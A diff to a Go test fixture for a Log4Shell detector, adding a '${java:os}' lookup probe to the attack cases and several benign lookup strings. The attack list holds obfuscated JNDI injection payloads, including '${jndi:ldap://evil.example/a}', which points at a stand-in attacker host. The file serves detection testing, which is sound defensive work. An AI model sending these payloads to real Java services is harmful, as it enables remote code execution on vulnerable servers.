@@ -13,6 +13,7 @@ var family = matchtest.Family{
 	Find:     log4shell.Find,
 	Triggers: log4shell.Triggers,
 	Attacks: []matchtest.Attack{
+		{Rule: "lookup_probe", Text: "${java:os}"},
 		{Rule: "jndi_lookup", Text: "${${lower:j}${upper:n}${lower:d"},
 		{Rule: "jndi_lookup", Text: "${${env:q:-j}${env:q:-n}${env:q:-d}${env:q:-i}"},
 		{Rule: rule, Text: "${jndi:ldap://evil.example/a}"},
@@ -34,6 +35,7 @@ var family = matchtest.Family{
 		{Rule: rule, Text: "${${main:\\k5:-J}${spring:k5:-Nd}${sys:k5:-i}:ldap://x}"},
 	},
 	Benign: []string{
+		"${java:comp}", "${java:version} and ${java:os} are lookups", "${env:HOME}",
 		"${${env:STAGE}.name}", "${a:+${b:-1}${c:-2}${d:-3}}", "${x:-${a:-q}${b:-r}}",
 		"${jndi}", "${name} and ${count:-1}", "java:comp/env/jdbc", "jndi:ldap is the prefix of the lookup", "${env:JNDI_HOME}", "${lower:JN}${lower:DI}",
 		"`${jn}` + di:", "cost: ${price}", "${sys:java.home}/lib", "${", "${${", "$ {jndi:x}", "${a\njndi:}", "${PATH:-/usr/bin}:jndi", "${date:yyyy-MM-dd}",
